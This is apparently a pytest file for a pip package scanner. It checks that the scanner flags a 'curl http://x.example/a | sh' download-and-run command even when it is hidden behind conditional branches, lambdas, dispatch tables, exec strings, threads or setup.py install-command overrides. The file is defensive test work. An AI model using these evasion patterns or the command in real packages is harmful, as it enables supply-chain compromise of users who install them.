"""What a name means after a branch: a function or a text that acts does not get lost behind one that
does nothing, in whichever order they are written."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
SPAWN = f"os.system({COMMAND!r})"
PROGRAM = f"import os; os.system({COMMAND!r})"
HEAD = f"import os, sys\ndef noop(*a): pass\ndef evil(*a): {SPAWN}\n"

WAYS = {
    "conditional": f"{HEAD}f = noop if sys.argv else evil\nf()",
    "the other way round": f"{HEAD}f = evil if sys.argv else noop\nf()",
    "nested": f"{HEAD}f = noop if sys.argv else (noop if sys.path else evil)\nf()",
    "or": f"{HEAD}(evil or noop)()",
    "and": f"{HEAD}(noop and evil)()",
    "function of the library": f"{HEAD}f = print if sys.argv else os.system\nf({COMMAND!r})",
    "lambdas": f"import os, sys\nf = (lambda: {SPAWN}) if sys.argv else (lambda: 1)\nf()",
    "defined twice": f"import os, sys\nif sys.argv:\n    def f(): {SPAWN}\n"
    "else:\n    def f(): pass\nf()",
    "defined where it fails": f"import os\ntry:\n    def f(): {SPAWN}\n"
    "except Exception:\n    def f(): pass\nf()",
    "not reached": f"{HEAD}f = evil\ntry:\n    raise ValueError\n    f = noop\n"
    "except ValueError: pass\nf()",
    "table": f"{HEAD}{{'linux': evil, 'win32': noop}}[sys.platform]()",
    "list": f"{HEAD}[evil, noop][len(sys.argv)]()",
    "returned": f"{HEAD}def pick():\n    if sys.argv: return evil\n    return noop\npick()()",
    "decoy": f"from os import system\nimport sys\nif sys.argv:\n    def system(x): pass\n"
    f"system({COMMAND!r})",
    "classes": f"import os, sys\nclass A:\n    def __init__(self): {SPAWN}\nclass B: pass\n"
    "(B if sys.argv else A)()",
    "text": f"import sys\nc = {PROGRAM!r}\nif sys.argv:\n    c = 'pass'\nexec(c)",
    "text in place": f"import sys\nexec('pass' if sys.argv else {PROGRAM!r})",
    "command": f"import os, sys\nc = {COMMAND!r}\nif sys.argv:\n    c = 'dir'\nos.system(c)",
    "remembered": f"{HEAD}def run(f): f()\nrun(noop)\nrun(evil if sys.argv else noop)",
    "map": f"{HEAD}list(map(noop if sys.argv else evil, [1]))",
    "thread": f"{HEAD}import threading\n"
    "threading.Thread(target=noop if sys.argv else evil).start()",
}


def found_in(files: dict[str, str]) -> set[str]:
    evidence = observe(distribution_of(files))
    return {item.feature for item in evidence if item.surface.runs_unasked}


@pytest.mark.parametrize("way", WAYS)
def test_both_branches_count(way: str) -> None:
    found = found_in({"demo/__init__.py": f"{WAYS[way]}\n"})
    assert found >= {"proc_spawn_unasked", "shell_download"}


def test_both_command_classes_count() -> None:
    source = (
        "import os, sys\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        f"class N(install): pass\nclass E(install):\n    def run(self): {SPAWN}\n"
        "setup(name='x', cmdclass={'install': E if sys.argv else N})\n"
    )
    assert "cmdclass_capability" in found_in({"setup.py": source})


def test_two_harmless_branches_are_nothing() -> None:
    source = "import sys\ndef a(): return 1\ndef b(): return 2\n(a if sys.argv else b)()\n"
    assert not any(name.startswith("proc") for name in found_in({"demo/__init__.py": source}))


@pytest.mark.timeout(60)
def test_many_branches_are_read_in_time() -> None:
    functions = "".join(f"def f{n}(*a):\n    f = f{n - 1}\n    f()\n" for n in range(1, 60))
    joins = "".join(f"if sys.argv:\n    f = f{n}\n" for n in range(60)) * 20
    source = f"import os, sys\ndef f0(*a): {SPAWN}\n{functions}f = f0\n{joins}" + "f(f)\n" * 200
    assert "proc_spawn_unasked" in found_in({"demo/__init__.py": source})
